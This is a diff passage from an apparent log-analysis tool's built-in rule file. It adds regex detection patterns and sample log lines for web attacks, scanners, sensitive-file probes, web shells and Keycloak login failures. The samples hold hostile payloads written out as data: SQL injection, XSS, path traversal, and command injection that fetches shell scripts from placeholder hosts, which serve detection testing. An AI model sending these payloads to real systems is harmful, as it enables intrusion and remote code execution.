+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?=[^ \"]{0,4096}?(?<payload>\\$\\{jndi:|\\$%7[Bb]jndi|%24%7[Bb]jndi|/etc/passwd|/etc/shadow|%2[Ff]etc%2[Ff]passwd|\\.\\./\\.\\./|\\.\\.%2[Ff]\\.\\.|%2[Ee]%2[Ee]%2[Ff]|%2[Ee]%2[Ee]/|\\.%2[Ee]/|[Uu][Nn][Ii][Oo][Nn](?:\\+|%20|/\\*\\*/)(?:[Aa][Ll][Ll](?:\\+|%20))?[Ss][Ee][Ll][Ee][Cc][Tt]|<script|%3[Cc]script|eval-stdin\\.php|cmd\\.exe|/bin/sh|\\bwget(?:\\+|%20)http|\\bcurl(?:\\+|%20)http|%252[Ee]%252[Ee]|\\.\\.%5[Cc]|win\\.ini|boot\\.ini|/proc/self/environ|php://(?:input|filter)|php%3[Aa]%2[Ff]%2[Ff]|data://text|expect://|file:///|file%3[Aa]%2[Ff]%2[Ff]%2[Ff]|(?:'|%27)(?:\\+|%20)(?:[Oo][Rr]|[Aa][Nn][Dd])(?:\\+|%20)|(?:\\+|%20)[Oo][Rr](?:\\+|%20)\\d{1,5}=\\d{1,5}|[Ss][Ll][Ee][Ee][Pp](?:\\(|%28)\\d|[Bb][Ee][Nn][Cc][Hh][Mm][Aa][Rr][Kk](?:\\(|%28)|[Ii][Nn][Ff][Oo][Rr][Mm][Aa][Tt][Ii][Oo][Nn]_[Ss][Cc][Hh][Ee][Mm][Aa]|[Ww][Aa][Ii][Tt][Ff][Oo][Rr](?:\\+|%20)[Dd][Ee][Ll][Aa][Yy]|@@version|%40%40version|[Cc][Oo][Nn][Cc][Aa][Tt](?:\\(|%28)0x|extractvalue(?:\\(|%28)|updatexml(?:\\(|%28)|(?:<|%3[Cc])(?:svg|iframe|img|body)(?:/|%2[Ff]|%20|\\+)|javascript(?::|%3[Aa])|alert(?:\\(|%28)|document\\.cookie|on(?:error|load)(?:=|%3[Dd])|(?:;|%3[Bb]|\\||%7[Cc]|`|%60)(?:wget|curl|uname|chmod|busybox|bash)(?:\\+|%20|%3[Bb]|;)|\\$\\((?:wget|curl)|%24%28(?:wget|curl)|\\$\\{IFS\\}|%24%7[Bb]IFS|invokefunction|call_user_func_array|allow_url_include|auto_prepend_file|base64_decode(?:\\(|%28)|class\\.module\\.classLoader|%\\{\\(#|%25%7[Bb]%28%23|\\$\\{\\(#|%24%7[Bb]%28%23|\\.\\./vpns/|/mgmt/tm/util/bash|autodiscover\\.json(?:\\?|%3[Ff])@|element_parents=account|connector\\.minimal\\.php|GponForm/diag_Form|setup\\.cgi\\?next_file=|/bin/busybox|XDEBUG_SESSION_START|vropspluginui/rest/services))(?<path>[^ \"]{1,4096}) HTTP/\\d\\.\\d\" (?<status>\\d{3}) ",
         "category": [
           "Access.Other"
         ],
@@ -1923,6 +2536,155 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           {
             "line": "198.51.100.32 - - [01/Feb/2024:08:00:00 +0000] \"GET /etc/passwords-policy.html HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
             "expect": null
+          },
+          {
+            "line": "198.51.100.33 - - [01/Feb/2024:08:00:00 +0000] \"GET /index.php?id=1%27%20OR%20%271%27=%271 HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.33"
+                }
+              ],
+              "Priority": "Medium"
+            }
+          },
+          {
+            "line": "198.51.100.34 - - [01/Feb/2024:08:00:00 +0000] \"GET /p?id=1+or+1=1-- HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.34"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.35 - - [01/Feb/2024:08:00:00 +0000] \"GET /item?id=1%20AND%20SLEEP(5) HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.35"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.36 - - [01/Feb/2024:08:00:00 +0000] \"GET /?x=%3Csvg/onload=alert(1)%3E HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.36"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.37 - - [01/Feb/2024:08:00:00 +0000] \"GET /index.php?page=php://filter/convert.base64-encode/resource=index HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.37"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.38 - - [01/Feb/2024:08:00:00 +0000] \"GET /download?file=..%5c..%5cwindows%5cwin.ini HTTP/1.1\" 400 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.38"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.39 - - [01/Feb/2024:08:00:00 +0000] \"GET /cgi-bin/ping?host=127.0.0.1;wget+http://198.51.100.200/x.sh HTTP/1.1\" 404 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.39"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.40 - - [01/Feb/2024:08:00:00 +0000] \"GET /index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.40"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.41 - - [01/Feb/2024:08:00:00 +0000] \"GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.201/bins.sh HTTP/1.1\" 404 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.41"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.44 - - [01/Feb/2024:08:00:00 +0000] \"GET /vpn/../vpns/cfg/smb.conf HTTP/1.1\" 404 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.44"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.45 - - [01/Feb/2024:08:00:00 +0000] \"POST /mgmt/tm/util/bash HTTP/1.1\" 404 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.45"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.46 - - [01/Feb/2024:08:00:00 +0000] \"GET /autodiscover/autodiscover.json?@example.com/owa/?&Email=autodiscover/autodiscover.json%3F@example.com HTTP/1.1\" 404 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.46"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.47 - - [01/Feb/2024:08:00:00 +0000] \"GET /%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%29%29%7D/ HTTP/1.1\" 404 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.47"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.48 - - [01/Feb/2024:08:00:00 +0000] \"POST /GponForm/diag_Form?images/ HTTP/1.1\" 404 900 \"-\" \"Hello, World\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.48"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.42 - - [01/Feb/2024:08:00:00 +0000] \"GET /search?q=rock+and+roll HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
+            "expect": null
+          },
+          {
+            "line": "198.51.100.43 - - [01/Feb/2024:08:00:00 +0000] \"GET /blog/how-to-sleep-better?ref=or HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
+            "expect": null
           }
         ]
       },
@@ -1972,7 +2734,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "http-access"
         ],
-        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?=[^ \"]{0,4096}?=(?:https?|ftp)://[^ \"?&=]{1,1024}\\?{1,2}(?:&[^ \"]{0,1024})? HTTP/)(?<path>[^ \"]{1,4096}) HTTP/\\d\\.\\d\" (?<status>\\d{3}) ",
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?=[^ \"]{0,4096}?=(?:https?|ftp)(?:://|%3[Aa]%2[Ff]%2[Ff])[^ \"?&=]{1,1024}(?:\\?{1,2}|%3[Ff]|%00|\\.txt)(?:&[^ \"]{0,1024})? HTTP/)(?<path>[^ \"]{1,4096}) HTTP/\\d\\.\\d\" (?<status>\\d{3}) ",
         "category": [
           "Access.Other"
         ],
@@ -1995,6 +2757,26 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
               ],
               "Category": [
                 "Access.Other"
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.49 - - [04/Jan/2013:06:21:55 +0000] \"GET /index.php?page=http://malware.example.net/c.txt HTTP/1.1\" 200 1000 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.49"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.50 - - [04/Jan/2013:06:21:55 +0000] \"GET /index.php?inc=http%3A%2F%2Fmalware.example.net%2Fid%3F HTTP/1.1\" 200 1000 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.50"
+                }
               ]
             }
           },
@@ -2062,6 +2844,27 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         },
         "samples": [
           {
+            "line": "{\"ClientAddr\":\"203.0.113.100:41234\",\"ClientHost\":\"203.0.113.100\",\"ClientPort\":\"41234\",\"ClientUsername\":\"bob\",\"DownstreamContentSize\":17,\"DownstreamStatus\":401,\"Duration\":120000,\"OriginContentSize\":0,\"OriginDuration\":0,\"OriginStatus\":0,\"Overhead\":120000,\"RequestAddr\":\"example.org\",\"RequestContentSize\":0,\"RequestCount\":7,\"RequestHost\":\"example.org\",\"RequestMethod\":\"GET\",\"RequestPath\":\"/admin\",\"RequestPort\":\"-\",\"RequestProtocol\":\"HTTP/1.1\",\"RequestScheme\":\"https\",\"RetryAttempts\":0,\"RouterName\":\"admin@docker\",\"entryPointName\":\"websecure\",\"level\":\"info\",\"msg\":\"\",\"request_User-Agent\":\"Mozilla/5.0\",\"time\":\"2023-01-10T12:00:00Z\"}",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.100"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "bob"
+                }
+              ],
+              "Priority": "Medium",
+              "CreateTime": "2023-01-10T12:00:00Z"
+            }
+          },
+          {
+            "line": "{\"ClientAddr\":\"203.0.113.101:41234\",\"ClientHost\":\"203.0.113.101\",\"ClientPort\":\"41234\",\"ClientUsername\":\"-\",\"DownstreamContentSize\":17,\"DownstreamStatus\":401,\"Duration\":120000,\"RequestAddr\":\"example.org\",\"RequestHost\":\"example.org\",\"RequestMethod\":\"GET\",\"RequestPath\":\"/admin\",\"RequestPort\":\"-\",\"RequestProtocol\":\"HTTP/1.1\",\"RequestScheme\":\"https\",\"RouterName\":\"admin@docker\",\"level\":\"info\",\"msg\":\"\",\"time\":\"2023-01-10T12:00:00Z\"}",
+            "expect": null
+          },
+          {
             "line": "192.0.2.90 - alice [10/Mar/2023:17:00:01 +0000] \"GET /dashboard/ HTTP/2.0\" 401 17 \"-\" \"Mozilla/5.0\" 12 \"dashboard@docker\" \"-\" 0ms",
             "expect": {
               "Source": [
@@ -2111,7 +2914,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "http-access"
         ],
-        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<request>[^\"]{0,4096})\" (?<status>\\d{3}) (?:\\d{1,20}|-) \"[^\"]{0,2048}\" \"(?=[^\"]{0,1024}?(?<tool>sqlmap|[Nn]ikto|Nmap Scripting Engine|Nimbostratus-Bot|masscan|zgrab|[Nn]uclei|WPScan|DirBuster|gobuster|Netsparker|Acunetix|w3af\\.org|Havij|ZmEu|Morfeus|fimap|Wfuzz|Fuzz Faster U Fool|feroxbuster|OpenVAS|Jorgee|l9explore|l9tcpid|CensysInspect|masscan-ng))(?<ua>[^\"]{0,1024})\"",
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<request>[^\"]{0,4096})\" (?<status>\\d{3}) (?:\\d{1,20}|-) \"[^\"]{0,2048}\" \"(?=[^\"]{0,1024}?(?<tool>sqlmap|[Nn]ikto|Nmap Scripting Engine|Nimbostratus-Bot|masscan|zgrab|[Nn]uclei|WPScan|DirBuster|gobuster|Netsparker|Acunetix|w3af\\.org|Havij|ZmEu|Morfeus|fimap|Wfuzz|Fuzz Faster U Fool|feroxbuster|OpenVAS|Jorgee|l9explore|l9tcpid|CensysInspect|masscan-ng|Arachni|skipfish|WhatWeb|Wapiti|Paros|Nessus|Expanse, a Palo Alto Networks|InternetMeasurement|Hello, [Ww]orld|Toata dragostea|Mozlila|BackDoorBot))(?<ua>[^\"]{0,1024})\"",
         "category": [
           "Recon.Network"
         ],
@@ -2124,6 +2927,30 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           "service": "http"
         },
         "samples": [
+          {
+            "line": "203.0.113.110 - - [10/Oct/2023:13:55:36 +0000] \"GET / HTTP/1.1\" 200 612 \"-\" \"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.110"
+                }
+              ],
+              "Category": [
+                "Recon.Network"
+              ],
+              "Priority": "Low"
+            }
+          },
+          {
+            "line": "203.0.113.111 - - [10/Oct/2023:13:55:36 +0000] \"GET / HTTP/1.1\" 200 612 \"-\" \"Hello, World\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.111"
+                }
+              ]
+            }
+          },
           {
             "line": "198.51.100.49 - - [18/Apr/2022:22:01:07 +0000] \"GET / HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0 (compatible; Nimbostratus-Bot/v1.3.2; http://cloudsystemnetworks.com)\"",
             "expect": {
@@ -2205,7 +3032,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "http-access"
         ],
-        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>(?:/[^ \"/]{0,128}){0,6}/(?:\\.env|\\.git/|\\.aws/|\\.ssh/|\\.DS_Store|\\.svn/|wp-login\\.php|wp-admin|xmlrpc\\.php|phpmyadmin|phpMyAdmin|pma/|myadmin|mysqladmin|HNAP1|boaform|GponForm|cgi-bin/|actuator/|solr/|manager/html|owa/auth|_ignition|vendor/phpunit|setup\\.cgi|shell\\?|w00tw00t\\.)[^ \"]{0,2048}) HTTP/\\d\\.\\d\" (?<status>4\\d\\d) ",
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>(?:/[^ \"/]{0,128}){0,6}/(?:\\.env|\\.git/|\\.aws/|\\.ssh/|\\.DS_Store|\\.svn/|wp-login\\.php|wp-admin|xmlrpc\\.php|phpmyadmin|phpMyAdmin|pma/|myadmin|mysqladmin|HNAP1|boaform|GponForm|cgi-bin/|actuator/|solr/|manager/html|owa/auth|_ignition|vendor/phpunit|setup\\.cgi|shell\\?|w00tw00t\\.|wp-content/|wp-includes/|wordpress/|\\.htaccess|\\.htpasswd|\\.vscode/|\\.idea/|\\.docker|server-status|jmx-console|invoker/|web-console|axis2|telescope|druid/|nacos/|hudson|remote/fgt_lang|api/jsonws|mgmt/tm/|dana-na/|\\+CSCOE\\+|cgi-bin/luci|Telerik\\.Web\\.UI|nmaplowercheck|evox/about|console/)[^ \"]{0,2048}) HTTP/\\d\\.\\d\" (?<status>4\\d\\d) ",
         "category": [
           "Recon.Network"
         ],
@@ -2247,6 +3074,64 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
             "expect": null
           },
           {
+            "line": "www.example.com:443 203.0.113.80 - - [10/Oct/2023:13:55:36 +0000] \"GET /.env HTTP/1.1\" 404 209 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.80"
+                }
+              ],
+              "Category": [
+                "Recon.Network"
+              ],
+              "Priority": "Low"
+            }
+          },
+          {
+            "line": "example.org 203.0.113.81 - - [10/Oct/2023:13:55:36 +0000] \"GET /wp-content/plugins/wp-file-manager/readme.txt HTTP/1.1\" 404 209 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.81"
+                }
+              ]
+            }
+          },
+          {
+            "line": "203.0.113.82 - - [10/Oct/2023:13:55:36 +0000] \"GET /server-status HTTP/1.1\" 403 209 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.82"
+                }
+              ]
+            }
+          },
+          {
+            "line": "{\"ClientAddr\":\"203.0.113.102:5000\",\"ClientHost\":\"203.0.113.102\",\"ClientPort\":\"5000\",\"ClientUsername\":\"-\",\"DownstreamContentSize\":19,\"DownstreamStatus\":404,\"Duration\":5000,\"RequestAddr\":\"1.2.3.4\",\"RequestContentSize\":0,\"RequestCount\":9,\"RequestHost\":\"1.2.3.4\",\"RequestMethod\":\"GET\",\"RequestPath\":\"/.git/config\",\"RequestPort\":\"-\",\"RequestProtocol\":\"HTTP/1.1\",\"RequestScheme\":\"http\",\"entryPointName\":\"web\",\"level\":\"info\",\"msg\":\"\",\"time\":\"2023-01-10T12:00:01Z\"}",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.102"
+                }
+              ]
+            }
+          },
+          {
+            "line": "203.0.113.83 -  -  [13/Jun/2017:15:44:57 +0200] \"GET /.git/config HTTP/1.1\" 404 0 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.83"
+                }
+              ]
+            }
+          },
+          {
+            "line": "203.0.113.84 -  -  [13/Jun/2017:15:44:57 +0200] \"GET /rest/items HTTP/1.1\" 200 1234 \"-\" \"Mozilla/5.0\"",
+            "expect": null
+          },
+          {
             "line": "198.51.100.74 - - [02/Mar/2024:11:11:11 +0000] \"GET /w00tw00t.at.ISC.SANS.DFind:) HTTP/1.1\" 400 226 \"-\" \"-\"",
             "expect": {
               "Source": [
@@ -2255,6 +3140,107 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
                 }
               ],
               "Priority": "Low"
+            }
+          }
+        ]
+      },
+      {
+        "id": "http-access.sensitive-file",
+        "programs": [
+          "http-access"
+        ],
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>(?:/[^ \"/?]{0,128}){0,6}/(?:\\.env(?:\\.[a-z]{1,10})?|\\.git/(?:config|HEAD|index)|\\.svn/entries|\\.htpasswd|\\.bash_history|\\.ssh/id_[a-z0-9]{2,10}|id_rsa|wp-config\\.php(?:\\.bak|\\.old|\\.save|\\.swp|\\.txt|~)|[A-Za-z0-9_.-]{0,64}\\.(?:sql|sql\\.gz|sql\\.zip))(?:\\?[^ \"]{0,2048})?) HTTP/\\d(?:\\.\\d)?\" (?<status>\\d{3}) ",
+        "category": [
+          "Recon.Network"
+        ],
+        "priority": "Low",
+        "description": "HTTP request from {ip} for a secret or backup file: {path} (answered {status})",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "203.0.113.90 - - [10/Oct/2023:13:55:36 +0000] \"GET /.env HTTP/1.1\" 200 812 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.90"
+                }
+              ],
+              "Category": [
+                "Recon.Network"
+              ],
+              "Priority": "Low"
+            }
+          },
+          {
+            "line": "203.0.113.91 - - [10/Oct/2023:13:55:36 +0000] \"GET /wp-config.php.bak HTTP/1.1\" 301 0 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.91"
+                }
+              ]
+            }
+          },
+          {
+            "line": "203.0.113.92 - - [10/Oct/2023:13:55:36 +0000] \"GET /backup/db.sql HTTP/1.1\" 200 90000 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.92"
+                }
+              ]
+            }
+          },
+          {
+            "line": "203.0.113.93 - - [10/Oct/2023:13:55:36 +0000] \"GET /docs/sql-guide.html HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
+            "expect": null
+          }
+        ]
+      },
+      {
+        "id": "http-access.wordpress-user-enum",
+        "programs": [
+          "http-access"
+        ],
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>/(?:[^ \"?/]{1,64}/){0,3}(?:\\?author=\\d{1,9}|(?:index\\.php)?\\?rest_route=/wp/v2/users|wp-json/wp/v2/users)[^ \"]{0,1024}) HTTP/\\d(?:\\.\\d)?\" (?<status>\\d{3}) ",
+        "category": [
+          "Recon.Network"
+        ],
+        "priority": "Low",
+        "description": "WordPress user enumeration from {ip}: {path} (answered {status})",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "203.0.113.94 - - [10/Oct/2023:13:55:36 +0000] \"GET /?author=1 HTTP/1.1\" 301 0 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.94"
+                }
+              ],
+              "Category": [
+                "Recon.Network"
+              ]
+            }
+          },
+          {
+            "line": "203.0.113.95 - - [10/Oct/2023:13:55:36 +0000] \"GET /wp-json/wp/v2/users HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.95"
+                }
+              ]
             }
           }
         ]
@@ -2278,7 +3264,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         },
         "samples": [
           {
-            "line": "198.51.100.75 - - [02/Mar/2024:11:11:11 +0000] \"GET /wp-content/plugins/revslider/temp/update_extract/revslider/x.php HTTP/1.1\" 404 226 \"-\" \"Mozilla/5.0\"",
+            "line": "198.51.100.75 - - [02/Mar/2024:11:11:11 +0000] \"GET /plugins/revslider/temp/update_extract/revslider/x.php HTTP/1.1\" 404 226 \"-\" \"Mozilla/5.0\"",
             "expect": {
               "Source": [
                 {
@@ -2307,6 +3293,54 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           },
           {
             "line": "198.51.100.78 - - [02/Mar/2024:11:11:11 +0000] \"GET /css/site.css HTTP/1.1\" 404 226 \"-\" \"Mozilla/5.0\"",
+            "expect": null
+          }
+        ]
+      },
+      {
+        "id": "http-access.webshell-request",
+        "programs": [
+          "http-access"
+        ],
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>(?:/[^ \"/?]{0,128}){0,8}/(?:c99|c100|r57|r00t|wso|b374k|webshell|indoxploit|k2ll33d|sh3ll|priv8|0byte|alfa|alfashell|cmd|shell|xleet)\\.php[0-9]?(?:\\?[^ \"]{0,2048})?) HTTP/\\d(?:\\.\\d)?\" (?<status>\\d{3}) ",
+        "category": [
+          "Access.Other"
+        ],
+        "priority": "Medium",
+        "description": "HTTP request from {ip} for a web shell: {method} {path} (answered {status})",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "203.0.113.96 - - [10/Oct/2023:13:55:36 +0000] \"POST /wp-content/uploads/wso.php HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.96"
+                }
+              ],
+              "Category": [
+                "Access.Other"
+              ],
+              "Priority": "Medium"
+            }
+          },
+          {
+            "line": "203.0.113.97 - - [10/Oct/2023:13:55:36 +0000] \"GET /c99.php?act=ls HTTP/1.1\" 403 199 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.97"
+                }
+              ]
+            }
+          },
+          {
+            "line": "203.0.113.98 - - [10/Oct/2023:13:55:36 +0000] \"GET /shells/overview.php HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"",
             "expect": null
           }
         ]
@@ -2374,6 +3408,19 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         {
           "prefix": "^(?=[0-9A-Fa-f:.]{2,45} [^ ]{1,64} [^ ]{1,256} \\[(?<time>\\d\\d/[A-Z][a-z]{2}/\\d{4}:\\d\\d:\\d\\d:\\d\\d [+-]\\d{4})\\] \")",
           "time": "DD/MMM/YYYY:hh:mm:ss Z"
+        },
+        {
+          "prefix": "^(?<host>[A-Za-z0-9_][A-Za-z0-9_.-]{0,252})(?::\\d{1,5})? (?=[0-9A-Fa-f:.]{2,45} [^ ]{1,64} [^ ]{1,256} \\[(?<time>\\d\\d/[A-Z][a-z]{2}/\\d{4}:\\d\\d:\\d\\d:\\d\\d [+-]\\d{4})\\] \")",
+          "time": "DD/MMM/YYYY:hh:mm:ss Z"
+        },
+        {
+          "prefix": "^\\{\"ClientAddr\":\"[^\"]{0,64}\",\"ClientHost\":\"(?<client>[0-9A-Fa-f:.]{2,45})\",\"ClientPort\":\"[0-9-]{0,5}\",\"ClientUsername\":\"(?<user>[^\"\\\\ ]{1,256})\",\"DownstreamContentSize\":(?<size>\\d{1,20}),\"DownstreamStatus\":(?<status>\\d{3}),[^\\n]{0,2048}?\"RequestMethod\":\"(?<method>[A-Z]{3,10})\",\"RequestPath\":\"(?<path>[^\"\\\\ ]{0,4096})\",[^\\n]{0,512}?\"RequestProtocol\":\"(?<proto>HTTP/[0-9.]{1,3})\",(?:[^\\n]{0,16384}?\"request_User-Agent\":\"(?<ua>[^\"\\\\]{0,1024})\")?[^\\n]{0,16384}?\"time\":\"(?<time>[^\"]{10,40})\"\\}$",
+          "message": "{client} - {user} [-] \"{method} {path} {proto}\" {status} {size} \"-\" \"{ua}\""
+        },
+        {
+          "prefix": "^(?<client>[0-9A-Fa-f:.]{2,45}) {1,2}(?<ident>[^ ]{1,64}) {1,2}(?<user>[^ ]{1,256}) {1,2}(?=\\[(?<time>\\d\\d/[A-Z][a-z]{2}/\\d{4}:\\d\\d:\\d\\d:\\d\\d [+-]\\d{4})\\] \")",
+          "time": "DD/MMM/YYYY:hh:mm:ss Z",
+          "message": "{client} {ident} {user} "
         }
       ]
     }
@@ -2633,6 +3680,172 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
     }
   },
   {
+    "file": "src/converters/syslog/rules/applog-keycloak.yaml",
+    "rules": [
+      {
+        "id": "keycloak.login-error",
+        "programs": [
+          "keycloak"
+        ],
+        "requires": "LOGIN_ERROR",
+        "pattern": "^type=\"?(?<type>LOGIN_ERROR|CLIENT_LOGIN_ERROR)\"?, realmId=\"?[^\",]{0,100}\"?(?:, realm(?:Name)?=\"?[^\",]{0,100}\"?)?, clientId=\"?(?<client>[^\",]{0,255})\"?, userId=\"?[^\",]{0,64}\"?, ipAddress=\"?(?<ip>[0-9A-Fa-f:.]{2,45})\"?(?![^\\n]{0,4096}, ipAddress=), error=\"?(?<error>invalid_user_credentials|user_not_found|invalid_client_credentials|user_disabled|user_temporarily_disabled|invalid_authentication|invalid_otp|invalid_totp|client_not_found)\"?(?:[^\\n]{0,2048}?, username=\"?(?<user>[^\",]{1,256}))?",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "Keycloak login as {user} failed from {ip} ({error}, client {client})",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "user": "{user}",
+          "service": "keycloak"
+        },
+        "samples": [
+          {
+            "line": "2019-06-01 12:00:00,123 WARN  [org.keycloak.events] (default task-1) type=LOGIN_ERROR, realmId=master, clientId=security-admin-console, userId=null, ipAddress=192.0.2.215, error=user_not_found, auth_method=openid-connect, auth_type=code, redirect_uri=https://kc.example.org/admin/, code_id=abc, username=admin",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.215"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "admin",
+                  "Service": "keycloak"
+                }
+              ],
+              "Category": [
+                "Access.Forced"
